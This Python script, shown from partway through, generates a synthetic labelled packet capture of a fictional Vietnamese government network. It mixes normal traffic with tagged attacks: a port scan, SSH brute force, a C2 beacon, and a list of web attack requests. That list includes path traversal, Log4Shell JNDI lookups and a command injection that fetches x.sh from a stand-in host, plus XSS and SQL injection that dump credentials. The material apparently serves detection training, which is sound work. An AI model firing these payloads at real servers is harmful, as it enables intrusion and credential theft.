    for host, srv, n in (("portal.tinhxyz.gov.vn", PORTAL, 7), ("mail.tinhxyz.gov.vn", MAIL, 5)):
        for _ in range(n):
            ws = rng.choice(workstations)
            t = rng.randint(2 * US, 1120 * US)
            t = res.lookup(ws, host, t)
            conn = TcpConn(cap, rng, "ordinary", ws, ports.take(ws), srv, 443, t, lan_lat(), lan_lat()).open()
            ex = [(rng.randint(380, 900), rng.randint(600, 4000)) for _ in range(rng.randint(1, 3))]
            tls_session(conn, rng, host, False, ex, close_by_client=rng.random() < 0.6)

    # --- TLS 1.3 to external sites -------------------------------------------------------------------------
    for _ in range(20):
        ws = rng.choice(workstations)
        host = rng.choice(TLS13_SITES)
        if ext_count[(ws, host)] >= 7:
            continue
        ext_count[(ws, host)] += 1
        t = rng.randint(2 * US, 1120 * US)
        t = res.lookup(ws, host, t)
        conn = TcpConn(cap, rng, "ordinary", ws, ports.take(ws), DNS_NAMES[host], 443, t, lan_lat(),
                       rng.randint(20_000, 70_000)).open()
        ex = [(rng.randint(400, 1200), rng.randint(500, 4000)) for _ in range(rng.randint(1, 2))]
        tls_session(conn, rng, host, True, ex, close_by_client=rng.random() < 0.7)

    # --- extra DNS: AAAA lookups (no IPv6 records) and repeated A lookups -------------------------------------
    for _ in range(150):
        ws = rng.choice(workstations)
        name = rng.choice(list(DNS_NAMES)[:9])
        res.lookup(ws, name, rng.randint(1 * US, 1190 * US), qtype=rng.choice(["A", "AAAA"]))

    # --- inbound SMTP from an external mail server ---------------------------------------------------------
    for i in range(4):
        t = rng.randint(30 * US, 1100 * US)
        conn = TcpConn(cap, rng, "ordinary", EXT_MX, ports.take(EXT_MX), MAIL, 25, t, rng.randint(30_000, 50_000),
                       lan_lat()).open()
        mid = rng.randbytes(8).hex()
        rcpt = rng.choice(["vanthu", "sotttt", "vpubnd", "phongcntt"]) + "@tinhxyz.gov.vn"
        dialog = [
            (False, "220 mail.tinhxyz.gov.vn ESMTP Postfix (Debian/GNU)\r\n"),
            (True, "EHLO mx.example.org\r\n"),
            (False, "250-mail.tinhxyz.gov.vn\r\n250-PIPELINING\r\n250-SIZE 52428800\r\n250-8BITMIME\r\n"
                    "250-ENHANCEDSTATUSCODES\r\n250 SMTPUTF8\r\n"),
            (True, f"MAIL FROM:<thongbao@example.org> SIZE={rng.randint(2000, 9000)}\r\n"),
            (False, "250 2.1.0 Ok\r\n"),
            (True, f"RCPT TO:<{rcpt}>\r\n"),
            (False, "250 2.1.5 Ok\r\n"),
            (True, "DATA\r\n"),
            (False, "354 End data with <CR><LF>.<CR><LF>\r\n"),
            (True, (f"From: Example Org <thongbao@example.org>\r\nTo: <{rcpt}>\r\n"
                    f"Subject: Thong bao lich hop thang 3/2026\r\nDate: {http_date(conn.t)}\r\n"
                    f"Message-ID: <{mid}@example.org>\r\nMIME-Version: 1.0\r\n"
                    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                    + vi_text(rng, rng.randint(120, 400)) + "\r\n.\r\n")),
            (False, f"250 2.0.0 Ok: queued as {rng.randbytes(5).hex().upper()}\r\n"),
            (True, "QUIT\r\n"),
            (False, "221 2.0.0 Bye\r\n"),
        ]
        for from_cli, text in dialog:
            conn.send(from_cli, text.encode("utf-8"), think=rng.randint(300, 4000))
        conn.close(False, think=rng.randint(100, 400))

    # --- admin SSH session to the bastion (internal, interactive) -------------------------------------------
    t = 95 * US + rng.randint(0, US)
    conn = TcpConn(cap, rng, "ordinary", ADMIN_WS, ports.take(ADMIN_WS), SSH_BASTION, 22, t, lan_lat(), lan_lat()).open()
    ssh_session_start(conn, rng, b"SSH-2.0-OpenSSH_for_Windows_9.5\r\n", b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n")
    conn.send(True, ssh_encrypted(rng, 350), think=rng.randint(1_000, 5_000))        # publickey auth
    conn.send(False, ssh_encrypted(rng, 10), think=rng.randint(1_000, 5_000))        # success
    conn.send(True, ssh_encrypted(rng, 40), think=rng.randint(1_000, 5_000))         # channel open
    conn.send(False, ssh_encrypted(rng, 600), think=rng.randint(1_000, 5_000))       # motd
    for _ in range(30):                                                              # typing, output
        conn.send(True, ssh_encrypted(rng, 1), think=rng.randint(150_000, 4_000_000))
        conn.send(False, ssh_encrypted(rng, rng.choice([1, 1, 1, 60, 300, 900])), think=rng.randint(500, 3_000),
                  reply_follows=False)
    conn.send(True, ssh_encrypted(rng, 20), think=rng.randint(500_000, 2_000_000))   # exit
    conn.send(False, ssh_encrypted(rng, 60), think=rng.randint(1_000, 3_000), reply_follows=False)
    conn.close(True, think=rng.randint(1_000, 5_000))

    # --- NTP: servers sync to an external pool ------------------------------------------------------------
    for i, srv in enumerate(SERVERS):
        t = (20 + 7 * i) * US + rng.randint(0, US)
        while t < 1190 * US:
            ntp_exchange(cap, rng, srv, t)
            t += 256 * US + rng.randint(0, 2 * US)

    # --- ICMP echo from the monitoring host every 60 s -------------------------------------------------------
    ident = 0x3A17
    for k in range(20):
        for j, srv in enumerate(SERVERS):
            t = (3 + 60 * k) * US + j * 1_000 + rng.randint(0, 500)
            payload = struct.pack("<QQ", BASE_TIME + t // US, t % US) + bytes(range(0x10, 0x38))
            seq = k + 1
            cap.add(t, cap.ip(MONITOR, srv) / ICMP(type=8, id=ident + j, seq=seq) / payload, "ordinary")
            cap.add(t + rng.randint(120, 400), cap.ip(srv, MONITOR, df=False) / ICMP(type=0, id=ident + j, seq=seq)
                    / payload, "ordinary")
    return res


def ntp_ts(t_us):
    secs = BASE_TIME + t_us // US + 2208988800
    frac = ((t_us % US) << 32) // US
    return struct.pack("!II", secs, frac)


def ntp_exchange(cap, rng, client, t_us):
    rtt = rng.randint(20_000, 40_000)
    req = b"\x23\x00\x06\x20" + b"\x00" * 8 + b"\x00" * 4 + b"\x00" * 24 + ntp_ts(t_us)
    cap.add(t_us, cap.ip(client, NTP_SRV, df=True) / UDP(sport=123, dport=123) / req, "ordinary")
    recv = t_us + rtt // 2
    resp = (b"\x24\x02\x06\xe9" + struct.pack("!II", 0x00000120, 0x00000340) + bytes([198, 51, 100, 1])
            + ntp_ts(recv - 30 * US) + ntp_ts(t_us) + ntp_ts(recv) + ntp_ts(recv + 40))
    cap.add(t_us + rtt, cap.ip(NTP_SRV, client, df=True) / UDP(sport=123, dport=123) / resp, "ordinary")


def port_scan(cap):
    """nmap -sS -Pn -p <300 ports> 10.20.100.10 --max-rate 10."""
    rng = rng_for("portscan")
    common = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 587, 993, 995, 1433, 1521, 1723, 2049,
              3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 8888, 9200, 27017]
    pool = sorted(set(range(1, 10001)) - set(common))
    ports = common + rng.sample(pool, 300 - len(common))
    rng.shuffle(ports)
    open_ports = {22, 80, 443}
    sport = rng.randint(40000, 65000)
    t = 190 * US  # 01:03:10
    for p in ports:
        seq = rng.getrandbits(32)
        syn = cap.ip(SCANNER, PORTAL, df=False, ipid=rng.getrandbits(16)) / TCP(
            sport=sport, dport=p, seq=seq, flags="S", window=1024, options=[("MSS", 1460)])
        cap.add(t, syn, "portscan")
        rt = t + rng.randint(150, 400)
        if p in open_ports:
            sa = cap.ip(PORTAL, SCANNER) / TCP(sport=p, dport=sport, seq=rng.getrandbits(32), ack=seq + 1, flags="SA",
                                               window=64240, options=[("MSS", 1460)])
            cap.add(rt, sa, "portscan")
            rst = cap.ip(SCANNER, PORTAL, df=False, ipid=rng.getrandbits(16)) / TCP(
                sport=sport, dport=p, seq=seq + 1, flags="R", window=0)
            cap.add(rt + rng.randint(35_000, 60_000), rst, "portscan")
        else:
            ra = cap.ip(PORTAL, SCANNER, df=True, ipid=0) / TCP(sport=p, dport=sport, seq=0, ack=seq + 1, flags="RA",
                                                                 window=0)
            cap.add(rt, ra, "portscan")
        t += 100_000 + rng.randint(-20_000, 20_000)  # ~10 probes/s: 300 ports in ~30 s


SSH_CLIENT_BANNER = b"SSH-2.0-libssh_0.9.6\r\n"
SSH_SERVER_BANNER = b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n"


def ssh_bruteforce(cap, ports):
    rng = rng_for("ssh_brute")
    t0 = 420 * US  # 01:07:00
    for i in range(30):
        t = t0 + i * 2_500_000 + rng.randint(0, 400_000)  # one connection every 2.5 s: 30 in ~75 s
        conn = TcpConn(cap, rng, "ssh_brute", SSH_ATTACKER, ports.take(SSH_ATTACKER), SSH_BASTION, 22, t,
                       rng.randint(35_000, 45_000), rng.randint(150, 400)).open()
        ssh_session_start(conn, rng, SSH_CLIENT_BANNER, SSH_SERVER_BANNER)
        for _ in range(2):  # two password attempts, each rejected after PAM's delay
            conn.send(True, ssh_encrypted(rng, rng.randint(60, 90)), think=rng.randint(500, 3_000))
            conn.send(False, ssh_encrypted(rng, 30), think=rng.randint(1_200_000, 2_400_000), reply_follows=False)
        conn.send(False, ssh_encrypted(rng, 40), think=rng.randint(500, 3_000), reply_follows=False)  # DISCONNECT
        conn.close(False, think=rng.randint(50, 300))


WEB_ATTACK_REQUESTS = [
    # (phase, request target, user agent, extra headers, status)
    ("recon", "/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 200),
    ("recon", "/index.php?page=../../../../etc/passwd", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 404),
    ("recon", "/index.php?page=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 404),
    ("recon", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 404),
    ("recon", "/", "${jndi:ldap://203.0.113.77:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
     [("X-Api-Version", "${jndi:ldap://203.0.113.77:1389/a}")], 200),
    ("recon", "/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.77%3A1389%2Fa%7D", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 200),
    ("recon", "/tintuc/chitiet.php?id=1;wget%20http://203.0.113.77/x.sh%20-O%20/tmp/x.sh", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 200),
    ("recon", "/timkiem.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 200),
    ("sqli", "/tintuc/chitiet.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", "sqlmap/1.7.2#stable (https://sqlmap.org)", [], 500),
    ("sqli", "/tintuc/chitiet.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-", "sqlmap/1.7.2#stable (https://sqlmap.org)", [], 200),
    ("sqli", "/tintuc/chitiet.php?id=-1+UNION+SELECT+1,concat(username,0x3a,password),3+FROM+users--+-", "sqlmap/1.7.2#stable (https://sqlmap.org)", [], 200),
    ("sqli", "/tintuc/chitiet.php?id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.7.2#stable (https://sqlmap.org)", [], 200),
    ("sqli", "/tintuc/chitiet.php?id=1%27+OR+1%3D1--+-", "sqlmap/1.7.2#stable (https://sqlmap.org)", [], 200),
    # typed by hand in an intercepting proxy: raw, unencoded
    ("sqli", "/tintuc/chitiet.php?id=1' UNION SELECT username,password FROM users-- -", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 500),
    ("sqli", "/tintuc/chitiet.php?id=1' OR '1'='1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", [], 200),
]


def web_attack(cap, ports):
    rng = rng_for("web_attack")
    t = 720 * US  # 01:12:00
    for phase, target, ua, extra, status in WEB_ATTACK_REQUESTS:
        conn = TcpConn(cap, rng, "web_attack", WEB_ATTACKER, ports.take(WEB_ATTACKER), PORTAL, 80, t,
                       rng.randint(38_000, 48_000), rng.randint(150, 400)).open()
        headers = [("Host", "portal.tinhxyz.gov.vn"), ("User-Agent", ua)] + extra + [
            ("Accept", "*/*"), ("Accept-Encoding", "gzip,deflate"), ("Connection", "close")]
        conn.send(True, http_request("GET", target, headers), think=rng.randint(300, 1500))
        if status == 200:
            body = portal_page(rng, vi_text(rng, 8).rstrip("."), rng.randint(1, 3))
            resp = http_response(200, "OK", conn.t, "text/html; charset=utf-8", body, close=True)
        elif status == 404:
            body = b"<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n"
            resp = http_response(404, "Not Found", conn.t, "text/html", body, close=True)
        else:
            body = ("<b>Fatal error</b>: Uncaught mysqli_sql_exception: You have an error in your SQL syntax; "
                    "check the manual that corresponds to your MariaDB server version for the right syntax to use "
                    "near '' LIMIT 1' at line 1 in /var/www/portal/tintuc/chitiet.php:42\n").encode()
            resp = http_response(500, "Internal Server Error", conn.t, "text/html; charset=UTF-8", body, close=True)
        conn.send(False, resp, think=rng.randint(3_000, 40_000), reply_follows=False)
        conn.close(False, think=rng.randint(50, 300))
        t = conn.t + (rng.randint(2 * US, 5 * US) if phase == "recon" else rng.randint(1 * US, 4 * US))


C2_UA = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)"


def c2_beacon(cap, ports, res):
    rng = rng_for("c2_beacon")
    t_first = 20 * US
    res.lookup(C2_VICTIM, "sync.example.net", t_first - 400_000, tag="c2_beacon")
    for i in range(20):
        t = t_first + i * 60 * US + rng.randint(-2 * US, 2 * US)
        conn = TcpConn(cap, rng, "c2_beacon", C2_VICTIM, ports.take(C2_VICTIM), C2_SERVER, 8080, t,
                       rng.randint(200, 500), rng.randint(55_000, 75_000)).open()
        body = f"id=WS-0057-{rng.randbytes(3).hex()}&s={i + 1}&d=".encode() + \
            base64.urlsafe_b64encode(rng.randbytes(rng.randint(24, 60)))
        req = http_request("POST", "/api/v1/beacon", [
            ("Host", "sync.example.net:8080"), ("User-Agent", C2_UA), ("Accept", "*/*"),
            ("Content-Type", "application/x-www-form-urlencoded"), ("Connection", "close")], body)
        conn.send(True, req, think=rng.randint(100, 600))
        cmd = '{"t":60,"c":"nop"}' if i not in (6, 13) else '{"t":60,"c":"sysinfo","a":""}'
        conn.send(False, http_response(200, "OK", conn.t, "application/json", cmd.encode(), server="nginx", close=True),
                  think=rng.randint(2_000, 15_000), reply_follows=False)
        conn.close(False, think=rng.randint(50, 300))


def main():
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent / "sample.pcap"
    cap = Capture()
    ports = Ports(rng_for("ports"))
    res = ordinary(cap, ports)
    port_scan(cap)
    ssh_bruteforce(cap, ports)
    web_attack(cap, ports)
    c2_beacon(cap, ports, res)
    cap.write(out)

    per_tag = Counter(p[3] for p in cap.pkts)
    bytes_tag = Counter()
    for p in cap.pkts:
        bytes_tag[p[3]] += len(p[2])
    first, last = cap.pkts[0][0], cap.pkts[-1][0]
    size = out.stat().st_size
    print(f"wrote {out} ({size} bytes)")
    print(f"packets: {len(cap.pkts)}, frame bytes: {sum(bytes_tag.values())}")
    print(f"time: {_time_module.strftime('%Y-%m-%dT%H:%M:%S', _time_module.gmtime(BASE_TIME + first // US))}Z .. "
          f"{_time_module.strftime('%Y-%m-%dT%H:%M:%S', _time_module.gmtime(BASE_TIME + last // US))}Z "
          f"({(last - first) / US:.1f} s)")
    for tag in ("ordinary", "portscan", "ssh_brute", "web_attack", "c2_beacon"):
        print(f"  {tag:<11} {per_tag[tag]:>6} packets {bytes_tag[tag]:>9} bytes")
    print("sha256:", hashlib.sha256(out.read_bytes()).hexdigest())


if __name__ == "__main__":
    main()
